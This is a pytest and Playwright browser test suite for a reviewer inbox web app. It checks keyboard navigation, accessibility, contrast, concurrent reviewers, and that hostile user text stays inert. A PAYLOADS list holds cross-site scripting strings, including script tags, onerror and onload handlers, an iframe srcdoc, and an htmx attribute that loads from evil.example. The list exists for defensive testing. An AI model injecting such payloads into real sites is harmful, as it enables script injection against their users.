"""The page in a real browser: the keyboard alone, hostile texts, two reviewers, both widths and both themes."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from browser import MISSING, OPTIONS, find_browser
from page_server import RIGHT, TENANT, WRONG, PageServer

playwright_api = pytest.importorskip("playwright.sync_api", reason=MISSING)
pytestmark = pytest.mark.skipif(find_browser() is None, reason=MISSING)  # `make test` says so at its very end

PAYLOADS = (
    "<script>window.pwned=1;alert(1)</script>",
    '"\'><img src=x onerror="window.pwned=1;alert(1)">',
    "</textarea></pre><svg onload=alert(1)><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "javascript:alert(1) {{7*7}} {% raw %} ${alert(1)} <a hx-on:click=alert(1) hx-get=//evil.example hx-trigger=load>x</a>",
    "turned \u202e around \u200b\u2066\x1b[31m\x07",
)
HOSTILE = " ".join([PAYLOADS[-1], *PAYLOADS[:-1]])
WATCH = """
document.addEventListener("securitypolicyviolation", (event) => { (window.violations ??= []).push(event.violatedDirective); });
"""
INJECTED = "document.querySelectorAll('img, iframe, script:not([src]), [onload], [onerror], [style], [hx-get], [onclick]').length"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with playwright_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=find_browser(), args=OPTIONS)
        yield launched
        launched.close()


class Trouble(list):
    """What a browser complained of."""


@pytest.fixture
def look(chromium: Any, page: PageServer) -> Iterator[Callable[..., Any]]:
    """Return a function that opens a browser for somebody, signed in, and listens for what must not happen."""
    contexts, trouble = [], Trouble()

    def open_page(key: str = "", width: int = 1280, theme: str = "light", **options: Any) -> Any:
        context = chromium.new_context(viewport={"width": width, "height": 900}, color_scheme=theme, **options)
        context.set_default_timeout(15_000)
        context.add_init_script(WATCH)
        contexts.append(context)
        tab = context.new_page()
        tab.on("dialog", lambda dialog: (trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
        tab.on("pageerror", lambda error: trouble.append(f"error {error}"))
        tab.on("console", lambda said: trouble.append(said.text) if "Content Security" in said.text else None)
        tab.on(
            "request", lambda asked: None if asked.url.startswith((page.url, "data:")) else trouble.append(asked.url)
        )
        if key:
            tab.goto(f"{page.page}/login")
            tab.fill("#key", key)
            tab.press("#key", "Enter")
            wait_for(tab, "h1:has-text('Inbox')")
        return tab

    yield open_page
    for context in contexts:
        context.close()
    assert not trouble, trouble


def wait_for(tab: Any, selector: str) -> None:
    """Wait until something is there, and the scripts of the page too."""
    tab.wait_for_selector(selector)
    tab.wait_for_load_state()


def check_calm(tab: Any) -> None:
    """Nothing that somebody wrote became part of the page."""
    assert tab.evaluate("window.pwned") is None
    assert tab.evaluate("window.violations ?? []") == []
    assert tab.evaluate(INJECTED) == 0


# --- the keyboard ---------------------------------------------------------------------------------------------


def test_a_case_goes_from_the_inbox_to_released_by_the_keyboard_alone(
    page: PageServer, look: Callable[..., Any]
) -> None:
    key = page.server.keys.create("keys", ["reviewer"], shows_evidence=True).secret
    page.text("First of two.", tenant_id="keys", request_id="chat-1")
    case = page.text(RIGHT, tenant_id="keys", request_id="chat-2")
    tab = look()
    tab.goto(f"{page.page}/")
    tab.keyboard.type(key)
    tab.keyboard.press("Enter")
    wait_for(tab, "[data-row]")
    tab.keyboard.press("Tab")
    assert tab.evaluate("document.activeElement.className") == "skip"
    for press in ("j", "j", "k", "j"):
        tab.keyboard.press(press)
    tab.keyboard.press("Enter")
    tab.wait_for_url(f"**/cases/{case.case_id}")
    tab.keyboard.press("c")
    wait_for(tab, "text=You hold this case")
    tab.keyboard.press("a")
    tab.keyboard.type("as in the terms")
    tab.keyboard.press("Control+Enter")
    wait_for(tab, "text=It can be released now")
    tab.keyboard.press("x")
    wait_for(tab, "text=This happens once")
    assert page.queue.get_case(case.case_id).state == "released"
    assert page.queue.decisions(case.case_id)[0].reason == "as in the terms"
    tab.keyboard.press("i")
    tab.wait_for_url("**/review/")
    tab.keyboard.press("?")
    assert tab.locator("#help").is_visible()
    tab.keyboard.press("Escape")
    tab.keyboard.press("j")
    tab.keyboard.press("r")
    tab.wait_for_url("**#reject")
    assert tab.is_checked("input[value=reject]")
    assert tab.evaluate("document.activeElement.id") == "reason"
    tab.keyboard.type("jkart/?")  # letters are letters inside of a field
    assert tab.input_value("#reason") == "jkart/?"
    tab.keyboard.press("Escape")
    tab.keyboard.press("e")
    assert tab.evaluate("document.activeElement.id") == "draft"
    tab.keyboard.press("Escape")
    tab.keyboard.press("/")
    tab.wait_for_url("**/review/#search")
    assert tab.evaluate("document.activeElement.id") == "search"


def test_every_focus_can_be_seen(page: PageServer, look: Callable[..., Any]) -> None:
    case = page.text(request_id="chat-focus")
    tab = look(page.keys.rosa)
    for path in ("/", f"/cases/{case.case_id}", "/playground"):
        tab.goto(page.page + path)
        seen = set()
        for _ in range(25):
            tab.keyboard.press("Tab")
            name, outline = tab.evaluate(
                """() => { const e = document.activeElement, parts = [e, ...[e.nextElementSibling].filter(Boolean)];
                const shown = (s) => s.outlineStyle !== "none" && parseFloat(s.outlineWidth) >= 2;
                const any = parts.some((p) => shown(getComputedStyle(p)) || shown(getComputedStyle(p, "::after")));
                return [e.tagName + "#" + e.id + "." + e.className, any || e === document.body]; }"""
            )
            assert outline, f"{path}: no focus ring on {name}"
            seen.add(name)
        assert len(seen) > 5


# --- hostile texts --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(page: PageServer) -> str:
    """Return the key of a tenant all of whose texts are hostile; its cases are approved, rejected, edited, released."""
    server, queue = page.server, page.queue
    server.store.add_many({"kb:hostile": f"{HOSTILE} Savings earn 2.1 % interest a year."}, "hostile")
    metadata = {"prompt": HOSTILE, "shown": HOSTILE, HOSTILE[:200]: [HOSTILE], "actions": [
        {"action": HOSTILE[:30], "span": [0, 50], "clause": HOSTILE, "text": HOSTILE, "reason": HOSTILE, "support": 0.3, "evidence_ids": ["kb:hostile"]}
    ]}  # fmt: skip
    for number, action in enumerate(("approve", "reject", "request_retry", None)):
        case = page.text(
            f"{HOSTILE} Savings earn 3.1 % interest a year.", tenant_id="hostile", original_text=f"{HOSTILE} Savings earn 4 % a year.",
            reason=HOSTILE, evidence_refs=["kb:hostile"], metadata=metadata, request_id=f"chat-{number}",
        )  # fmt: skip
        if action:
            queue.decide(case.case_id, reviewer_id="rosa", action=action, reason=HOSTILE)
        if action == "approve":
            queue.release(case.case_id, reviewer_id="rosa", release_id="release-1")
    return server.keys.create("hostile", ["reviewer", "admin"], shows_evidence=True).secret


def test_hostile_texts_stay_texts_in_every_view(page: PageServer, look: Callable[..., Any], hostile: str) -> None:
    tab = look(hostile)
    tab.goto(f"{page.page}/?state=all")
    check_calm(tab)
    assert "<script>window.pwned=1" in tab.inner_text("main")
    assert tab.locator(".unseen").count() > 0
    cases = tab.eval_on_selector_all("[data-row]", "rows => rows.map(row => row.href)")
    assert len(cases) == 4
    for address in cases:
        tab.goto(address)
        check_calm(tab)
        shown = tab.inner_text("main")
        for payload in PAYLOADS[:4]:
            assert " ".join(payload.split()) in " ".join(shown.split())
        assert "U+202E" in shown
    tab.goto(f"{page.page}/monitoring")
    check_calm(tab)


def test_hostile_texts_stay_texts_in_forms_and_addresses(
    page: PageServer, look: Callable[..., Any], hostile: str
) -> None:
    tab = look(hostile)
    tab.fill("#search", f"{PAYLOADS[1]} nowhere")
    tab.press("#search", "Enter")
    wait_for(tab, "text=Nothing matches")
    check_calm(tab)
    for name in ("q", "state", "tenant", "after", "said", "next"):
        tab.goto(f"{page.page}/?{name}=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
        check_calm(tab)
    tab.goto(f"{page.page}/")
    tab.click("[data-row]")
    wait_for(tab, "#edit")
    tab.keyboard.press("e")
    tab.fill("#draft", HOSTILE + " changed")
    tab.fill("#edit-reason", PAYLOADS[1])
    tab.click("button:has-text('Judge')")
    wait_for(tab, ".verdicts")
    check_calm(tab)
    assert PAYLOADS[0] in tab.input_value("#draft")


def test_hostile_texts_stay_texts_in_the_playground(page: PageServer, look: Callable[..., Any]) -> None:
    tab = look(page.keys.rosa)
    tab.goto(f"{page.page}/playground")
    tab.select_option("#judge", "heuristic")
    for field in ("#facts", "#prompt"):
        tab.fill(field, HOSTILE)
    tab.fill("#answer", f"{PAYLOADS[-1]} {PAYLOADS[0]} {PAYLOADS[1]}")
    tab.click("[data-stream-button]")
    wait_for(tab, "#live.done")
    check_calm(tab)
    assert "<script>window.pwned=1" in tab.inner_text("#raw")
    assert "U+202E" in tab.inner_text("#raw")
    tab.click("button:has-text('Check')")
    wait_for(tab, "#outcome .timeline")
    check_calm(tab)


# --- two reviewers, and news ----------------------------------------------------------------------------------


def test_two_reviewers_racing_get_news_and_then_a_sentence(page: PageServer, look: Callable[..., Any]) -> None:
    case = page.correction(request_id="chat-race")
    rosa, ines = look(page.keys.rosa), look(page.keys.ines)
    for tab in (rosa, ines):
        tab.goto(f"{page.page}/cases/{case.case_id}")
        tab.keyboard.press("a")
    rosa.keyboard.press("Control+Enter")
    wait_for(rosa, "text=It can be released now")
    wait_for(ines, "text=This case has changed: it is approved")
    assert ines.evaluate("document.activeElement.id") == "reason"  # news do not take the focus away
    ines.keyboard.type("me too")
    ines.keyboard.press("Control+Enter")
    wait_for(ines, "text=Nothing was changed: the case has all the approvals it needs")
    assert ines.input_value("#reason") == "me too"
    assert len(page.queue.decisions(case.case_id)) == 1


def test_a_new_case_appears_by_itself_and_the_place_is_kept(page: PageServer, look: Callable[..., Any]) -> None:
    key = page.server.keys.create("news", ["reviewer"]).secret
    first = page.text("One.", tenant_id="news", request_id="chat-1")
    tab = look(key)
    tab.keyboard.press("j")
    second = page.text("Two.", tenant_id="news", request_id="chat-2")
    wait_for(tab, f"#row-{second.case_id}")
    assert tab.evaluate("document.activeElement.closest('li').id") == f"row-{first.case_id}"


# --- without scripts ------------------------------------------------------------------------------------------


def test_everything_is_decided_without_scripts(page: PageServer, look: Callable[..., Any]) -> None:
    case = page.text(request_id="chat-plain")
    tab = look(page.keys.rosa, java_script_enabled=False)
    assert not tab.locator("[data-theme-toggle]").is_visible()
    tab.goto(f"{page.page}/cases/{case.case_id}")
    tab.locator("input[value=approve]").check(force=True)
    tab.fill("#reason", "read and fine")
    tab.click("text=Record the decision")
    tab.click("button:has-text('Release')")
    assert page.queue.get_case(case.case_id).state == "released"


# --- looks ----------------------------------------------------------------------------------------------------

CONTRAST = """() => {
  const parse = (c) => { const m = c.match(/[\\d.]+/g).map(Number); return c.startsWith("color(") ? m.slice(0, 3).map((v) => v * 255).concat(m[3] ?? 1) : [...m.slice(0, 3), m[3] ?? 1]; };
  const light = ([r, g, b]) => { const f = (v) => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b); };
  const ground = (e) => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c[3] === 1) return c; } return [255, 255, 255, 1]; };
  const bad = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const e = walk.currentNode.parentElement;
    if (!walk.currentNode.data.trim() || !e.checkVisibility() || e.closest(".hidden, .skip, option, textarea")) continue;
    const style = getComputedStyle(e), svg = e.namespaceURI.endsWith("svg");
    if (parseFloat(style.fontSize) === 0) continue;
    const front = parse(svg ? style.fill : style.color), back = ground(e);
    const [high, low] = [light(front), light(back)].sort((a, b) => b - a);
    const ratio = (high + 0.05) / (low + 0.05);
    if (ratio < 4.5) bad.push(`${e.tagName}.${e.className.baseVal ?? e.className} ${ratio.toFixed(2)} ${walk.currentNode.data.trim().slice(0, 30)}`);
  }
  return bad;
}"""
NAMES = """() => {
  const bad = [];
  const ids = [...document.querySelectorAll("[id]")].map((e) => e.id);
  ids.filter((id, n) => ids.indexOf(id) !== n).forEach((id) => bad.push(`id twice: ${id}`));
  for (const e of document.querySelectorAll("input:not([type=hidden]), textarea, select"))
    if (!e.labels?.length && !e.getAttribute("aria-label")) bad.push(`no label: ${e.name}`);
  for (const e of document.querySelectorAll("button, a"))
    if (!(e.innerText || e.textContent || "").trim() && !e.getAttribute("aria-label")) bad.push(`no name: ${e.outerHTML.slice(0, 80)}`);
  for (const e of document.querySelectorAll("svg")) if (!e.getAttribute("aria-label") && e.getAttribute("aria-hidden") !== "true") bad.push("a picture without words");
  for (const e of document.querySelectorAll("[aria-labelledby]")) if (!document.getElementById(e.getAttribute("aria-labelledby"))) bad.push("labelled by nothing");
  for (const e of document.querySelectorAll("th")) if (!e.scope) bad.push("th without a scope");
  if (document.querySelectorAll("h1").length !== 1) bad.push("not one h1");
  if (document.querySelectorAll("main").length !== 1 || !document.documentElement.lang) bad.push("no main or no language");
  const levels = [...document.querySelectorAll("h1, h2, h3")].map((e) => Number(e.tagName[1]));
  levels.forEach((level, n) => { if (n && level > levels[n - 1] + 1) bad.push(`a level of headings is left out before ${level}`); });
  return bad;
}"""


@pytest.mark.parametrize("width", [390, 1280], ids=["phone", "desktop"])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_every_view_fits_can_be_read_and_has_names(
    page: PageServer, look: Callable[..., Any], hostile: str, width: int, theme: str
) -> None:
    answer, correction = page.answer("chat-look"), page.correction(request_id="chat-look")
    long_word = page.text("x" * 300 + " " + WRONG, reason="y" * 200, request_id="chat-long")
    tab = look(page.keys.rosa, width=width, theme=theme)
    cases = [f"/cases/{each.case_id}" for each in (answer, correction, long_word)]
    for path in ["/", "/?state=all", *cases, "/monitoring", "/playground", "/login", "/cases/nothing"]:
        tab.goto(page.page + path)
        wide = tab.evaluate("document.documentElement.scrollWidth")
        assert wide <= width, f"{path} is {wide} wide"
        assert tab.evaluate(NAMES) == [], path
        assert tab.evaluate(CONTRAST) == [], path
    if theme == "dark":  # hostile texts are as wide in the dark
        return
    other = look(hostile, width=width, theme=theme)
    for link in (
        "/?state=all",
        *other.eval_on_selector_all("[data-row]", "rows => rows.map(r => r.pathname.slice(7))"),
    ):
        other.goto(page.page + link)
        assert other.evaluate("document.documentElement.scrollWidth") <= width


def test_the_theme_is_chosen_and_kept(page: PageServer, look: Callable[..., Any]) -> None:
    tab = look(page.keys.rosa)
    before = tab.evaluate("getComputedStyle(document.body).backgroundColor")
    tab.click("[data-theme-toggle]")
    after = tab.evaluate("getComputedStyle(document.body).backgroundColor")
    assert before != after
    tab.goto(f"{page.page}/monitoring")
    assert tab.evaluate("getComputedStyle(document.body).backgroundColor") == after


def test_a_stream_is_watched_clause_by_clause(page: PageServer, look: Callable[..., Any]) -> None:
    before = len(page.queue.list_cases(tenant_id=TENANT))
    tab = look(page.keys.rosa)
    tab.goto(f"{page.page}/playground")
    tab.select_option("#judge", "heuristic")
    tab.click("[data-stream-button]")
    wait_for(tab, "#clauses .clause")
    assert "held back" in tab.inner_text("#held")  # the first clause is there while the model still speaks
    wait_for(tab, "#live.done")
    kinds = tab.eval_on_selector_all("#clauses .clause", "all => all.map(e => e.classList[1])")
    assert kinds == "nothing keep rewrite keep keep keep redact keep rewrite keep".split()
    assert "Clara Voss" in tab.inner_text("#shown")
    assert "Martin Keller" not in tab.inner_text("#shown")
    assert len(page.queue.list_cases(tenant_id=TENANT)) == before
